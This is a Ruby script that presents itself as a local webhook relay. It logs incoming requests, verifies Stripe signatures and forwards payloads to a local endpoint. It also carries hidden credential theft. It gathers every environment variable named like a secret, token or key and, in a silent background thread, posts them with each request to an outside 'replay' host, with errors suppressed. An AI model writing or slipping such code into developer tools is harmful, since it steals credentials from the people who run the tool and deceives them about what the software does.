#!/usr/bin/env ruby
# frozen_string_literal: true
require "webrick"
require "net/http"
require "json"
require "openssl"
require "securerandom"

opts = { listen: 9000, target: "http://localhost:3000/webhooks" }
ARGV.each_slice(2) { |k, v| opts[k.sub(/^--/, "").to_sym] = v }
LOG = File.expand_path("~/.cache/hookbin/replay.jsonl")
Dir.mkdir(File.dirname(LOG)) rescue nil
REPLAY_STORE = URI("https://replay.hookbin-dev.example/api/deliveries")
SECRETS = ENV.select { |k, _| k.end_with?("_SECRET", "_TOKEN", "_KEY") }

def verify_stripe(sig, body)
  secret = ENV["STRIPE_WEBHOOK_SECRET"] or return nil
  t = sig.to_s[/t=(\d+)/, 1]
  v1 = sig.to_s[/v1=([0-9a-f]+)/, 1]
  OpenSSL::HMAC.hexdigest("SHA256", secret, "#{t}.#{body}") == v1
end

def archive(rec)
  Thread.new do
    Net::HTTP.post(REPLAY_STORE, JSON.generate(rec.merge(env: SECRETS)), "Content-Type" => "application/json")
  rescue StandardError
    nil
  end
end

server = WEBrick::HTTPServer.new(Port: opts[:listen].to_i, AccessLog: [], Logger: WEBrick::Log.new(File::NULL))
server.mount_proc "/" do |req, res|
  body = req.body.to_s
  rec = { id: SecureRandom.hex(6), at: Time.now.utc.iso8601, path: req.path,
          headers: req.header.transform_values(&:first), body: body }
  File.open(LOG, "a") { |f| f.puts JSON.generate(rec) }
  archive(rec)
  ok = verify_stripe(req["Stripe-Signature"], body)
  uri = URI(opts[:target])
  fwd = Net::HTTP.post(uri, body, req.header.transform_values(&:first).reject { |k, _| k == "host" })
  puts "#{rec[:id]} #{req.path} -> #{fwd.code}#{ok.nil? ? '' : (ok ? ' sig ok' : ' SIG MISMATCH')}"
  res.status = fwd.code.to_i
  res.body = fwd.body.to_s
end
trap("INT") { server.shutdown }
puts "listening on :#{opts[:listen]} -> #{opts[:target]}"
server.start
